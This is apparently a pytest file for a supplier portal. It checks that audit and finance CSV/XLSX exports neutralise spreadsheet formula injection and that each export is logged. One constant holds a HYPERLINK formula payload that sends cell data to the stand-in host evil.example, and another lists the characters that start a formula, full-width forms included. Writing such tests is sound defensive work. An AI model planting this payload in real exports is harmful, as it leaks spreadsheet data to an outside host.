"""Exports leave the portal safely: every text cell is neutralised, and each finance export
is an audited act (who, format, filters, row count) recorded before the first byte."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import asdict
from datetime import UTC, datetime

import pytest
from litestar.testing import TestClient

from portal.audit.log import AuditContext, AuditLog, export_csv
from portal.bootstrap import Services, build_collaborators
from portal.domain.principal import Role
from portal.domain.supplier import BankAccount, LifecycleState, Supplier
from portal.domain.uscc_factory import make_uscc
from portal.identity.api_clients import create_client
from portal.onboarding.registration import register_suppliers
from portal.web.app import create_app

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


def _supplier(i: int, *, validated: bool = True) -> Supplier:
    name = f"导出{i:02d}贸易有限公司"
    account = BankAccount(
        bank_name="招商银行上海分行", account_number=f"62220212345678{i:05d}", holder_name=name
    )
    return Supplier(
        uscc=make_uscc(700 + i),
        name=name,
        validated=validated,
        lifecycle_state=LifecycleState.ACTIVE,
        bank_accounts=(account,),
    )


@pytest.fixture
def client(services: Services) -> Iterator[TestClient]:  # type: ignore[type-arg]
    suppliers = [_supplier(i, validated=i != 2) for i in range(4)]
    register_suppliers(
        services.engine,
        services.suppliers,
        [(i, s, []) for i, s in enumerate(suppliers)],
        now=datetime.now(UTC),
    )
    with TestClient(app=create_app(build_collaborators(services))) as test_client:
        yield test_client


def _token(services: Services, *, reveal: bool = False) -> dict[str, str]:
    token = create_client(
        services.engine, f"erp-{reveal}", Role.FINANCE, can_reveal=reveal, now=datetime.now(UTC)
    )
    return {"Authorization": f"Bearer {token}"}


def _entries(services: Services, action: str) -> list[dict[str, object]]:
    with services.engine.connect() as conn:
        entries = AuditLog(services.sealer).entries(conn)
        return [asdict(e) for e in entries if e.action == action]


def _audit_csv(services: Services) -> list[list[str]]:
    out = io.StringIO()
    with services.engine.connect() as conn:
        export_csv(AuditLog(services.sealer).entries(conn), out)  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_a_formula_in_a_user_agent_does_not_run_from_the_audit_export(
    client: TestClient,  # type: ignore[type-arg]
    services: Services,
) -> None:
    response = client.get(
        f"/api/v1/suppliers/{make_uscc(701)}",
        params={"reveal": "true"},
        headers={**_token(services, reveal=True), "User-Agent": HYPERLINK},
    )
    assert response.status_code == 200
    rows = _audit_csv(services)
    agents = {row[rows[0].index("user_agent")] for row in rows[1:]}
    assert agents == {f"'{HYPERLINK}"}
    assert not any(cell.lstrip(" ").startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_full_width_formula_signs_are_neutralised_in_the_audit_export(
    services: Services,
) -> None:
    # HTTP headers arrive as Latin-1, so a full-width sign reaches the log from the CLI or a
    # form value; wherever it comes from, the spreadsheet must not read a formula.
    log = AuditLog(services.sealer)
    ctx = AuditContext(actor="＋cli", user_agent="＝1+1", device=" -2+3")
    with services.engine.begin() as conn:
        log.record(conn, ctx, "logout", subject_type="@SUM(A1)")
    header, row = _audit_csv(services)
    cells = dict(zip(header, row, strict=True))
    assert (cells["actor"], cells["user_agent"], cells["subject_type"], cells["device"]) == (
        "'＋cli",
        "'＝1+1",
        "'@SUM(A1)",
        "' -2+3",
    )


@pytest.mark.parametrize(("path", "file_format"), [("export.csv", "csv"), ("export.xlsx", "xlsx")])
def test_each_finance_export_is_recorded_with_who_format_filters_and_rows(
    client: TestClient,  # type: ignore[type-arg]
    services: Services,
    path: str,
    file_format: str,
) -> None:
    response = client.get(
        f"/api/v1/suppliers/{path}", params={"state": "active"}, headers=_token(services)
    )
    assert response.status_code == 200
    [entry] = _entries(services, "data.exported")
    assert entry["actor"] == "api:erp-False"
    assert (entry["subject_type"], entry["field_name"]) == ("finance_suppliers", file_format)
    assert json.loads(str(entry["after"])) == {
        "format": file_format,
        "rows": 3,  # the unvalidated supplier stays out
        "state": "active",
        "validated": "true",
    }
